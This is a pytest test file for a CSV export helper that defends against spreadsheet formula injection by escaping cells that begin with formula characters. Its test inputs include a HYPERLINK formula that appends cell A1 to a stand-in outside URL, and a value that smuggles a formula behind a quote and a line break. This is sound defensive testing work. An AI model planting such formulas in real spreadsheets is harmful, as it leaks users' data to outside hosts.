import csv
import datetime
import io
from decimal import Decimal

import pytest

from vig.spreadsheets import Cell, csv_file, safe_cell


def read(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u00a0="])
def test_nothing_that_was_typed_is_run_as_a_formula(sign: str) -> None:
    typed = f'{sign}HYPERLINK("https://elsewhere.example/?"&A1,"Open")'

    (_, (cell,)) = read(b"".join(csv_file(["Note"], [[typed]])))

    assert cell == f"'{typed}"


def test_a_formula_cannot_be_smuggled_in_behind_a_separator_or_a_quote() -> None:
    typed = 'calm",=1+1,"\r\n=1+1'

    assert read(b"".join(csv_file(["Note", "Count"], [[typed, 3]]))) == [["Note", "Count"], [typed, "3"]]


def test_a_title_is_typed_by_somebody_too() -> None:
    assert read(b"".join(csv_file(["=1+1"], []))) == [["'=1+1"]]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3, "-3"),
        (-0.5, "-0.5"),
        (Decimal("-1.50"), "-1.50"),
        (datetime.date(2026, 11, 2), "2026-11-02"),
        (datetime.datetime(2026, 11, 2, 9, 30, tzinfo=datetime.UTC), "2026-11-02T09:30:00+00:00"),
        (None, ""),
        ("Zoë waits – and he laughs", "Zoë waits – and he laughs"),
        ("it's all right", "it's all right"),
    ],
)
def test_numbers_dates_and_words_stay_as_they_are(value: Cell, written: str) -> None:
    assert safe_cell(value) == written


def test_excel_is_told_that_it_is_utf_8() -> None:
    assert b"".join(csv_file(["Name"], [["Zoë"]])).startswith(b"\xef\xbb\xbf")
